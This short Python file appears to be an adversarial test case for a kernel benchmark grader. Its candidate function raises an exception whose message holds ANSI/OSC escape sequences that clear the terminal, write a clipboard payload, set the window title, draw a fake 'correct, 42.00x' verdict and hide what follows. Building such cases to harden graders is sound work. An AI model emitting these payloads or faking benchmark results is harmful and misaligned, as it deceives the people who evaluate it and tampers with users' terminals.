"""P6 terminal escape injection: the error message carries ANSI/OSC sequences that redraw the user's terminal.

The grader trusts what the worker controls (issue 8, class 3), this time on its way to a human. An
exception's text is the candidate's; ``kbench eval`` prints it in the step log and the verdict line. Raw
escape sequences clear the screen, paint a fake "correct, 42.00x" verdict, hide what follows (SGR 8), set
the window title and, in terminals that honour OSC 52, write the user's clipboard. The kernel computes
nothing: the verdict the user sees is the one the candidate drew.
"""

_ESC = "\x1b"
_FAKE = (_ESC + "[2J" + _ESC + "[H" + _ESC + "]0;kbench: correct" + "\x07" + _ESC + "]52;c;ZWNobyBwd25lZAo=" + "\x07"
         + _ESC + "[1;32m  0.91s verdict correct, 42.00x (95% CI 41.8-42.2)" + _ESC + "[0m\n" + _ESC + "[8m")


def forward(x, params, alloc):
    raise RuntimeError(_FAKE)
